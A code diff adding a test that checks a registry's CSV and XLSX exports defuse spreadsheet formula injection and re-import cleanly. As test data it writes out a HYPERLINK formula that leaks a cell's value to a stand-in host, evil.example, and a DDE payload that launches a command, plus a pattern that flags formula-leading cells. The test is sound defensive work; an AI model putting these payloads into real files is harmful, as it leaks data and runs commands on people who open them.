@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
+import { systemContext, withAuditContext } from '@peksos/db';
 import { testDatabaseKind } from '@peksos/db/testing';
 import { copyAreas, postImport, startTestRegistry, type TestRegistry } from './testing/test-registry.js';
 
@@ -140,5 +141,44 @@ describe(`export over HTTP (${testDatabaseKind()})`, () => {
     expect(html).toContain('Cimahi Utara');
     expect(html).toContain('@page');
     expect((await fetch(`${source.url}/report/workforce-summary?areaCode=99`)).status).toBe(404);
+  });
+
+  it('writes no live formula into a CSV: cells starting with = + - @ tab or CR get an apostrophe, and import back as they were', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+    const command = "=cmd|' /C calc'!A0";
+    const [organisation] = (await source.database.dataSource.query(`SELECT id, code, name FROM organisation WHERE code IS NOT NULL ORDER BY code LIMIT 1`)) as { id: string; code: string; name: string }[];
+    const [worker] = (await source.database.dataSource.query(`SELECT id, full_name, phone FROM worker ORDER BY full_name LIMIT 1`)) as { id: string; full_name: string; phone: string | null }[];
+    const change = (sql: string, parameters: unknown[]) =>
+      withAuditContext(systemContext('formula test', 'test'), () => source.database.dataSource.transaction((manager) => manager.query(sql, parameters)));
+    await change(`UPDATE organisation SET name = $2 WHERE id = $1`, [organisation!.id, hyperlink]);
+    await change(`UPDATE worker SET full_name = $2, phone = $3 WHERE id = $1`, [worker!.id, command, '+6281234567890']);
+    try {
+      const organisations = csvRows((await download(source, '/api/export/organisations.csv')).body);
+      const nameColumn = organisations[0]!.indexOf('Nama organisasi');
+      const organisationRow = organisations.find((row) => row.includes(organisation!.code))!;
+      expect(organisationRow[nameColumn]).toBe(`'${hyperlink}`);
+      const gaps = await download(source, '/api/export/coverage-gaps.csv?areaCode=32');
+      expect(gaps.body.toString()).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
+
+      const workersCsv = await download(source, '/api/export/workers.csv?includeNationalIdNumbers=true');
+      const workers = csvRows(workersCsv.body);
+      const workerRow = workers.find((row) => row.includes(`'${command}`));
+      expect(workerRow).toBeDefined();
+      expect(workerRow![workers[0]!.indexOf('Telepon')]).toBe("'+6281234567890");
+      // No cell of any row starts a formula.
+      for (const row of [...organisations, ...workers]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+      // XLSX cells are typed: the name stays a plain string cell, exactly as written.
+      const xlsx = await xlsxRows((await download(source, '/api/export/organisations.xlsx')).body);
+      expect(xlsx.some((row) => row.includes(hyperlink))).toBe(true);
+
+      // The exported CSV imports back unchanged: the apostrophe is not taken into the data.
+      const again = await postImport(source, 'workers', workersCsv.body, { dryRun: 'true' });
+      expect(again.body.errors).toEqual([]);
+      expect(again.body.summary.unchanged).toBe(again.body.summary.rows);
+    } finally {
+      await change(`UPDATE organisation SET name = $2 WHERE id = $1`, [organisation!.id, organisation!.name]);
+      await change(`UPDATE worker SET full_name = $2, phone = $3 WHERE id = $1`, [worker!.id, worker!.full_name, worker!.phone]);
+    }
   });
 });
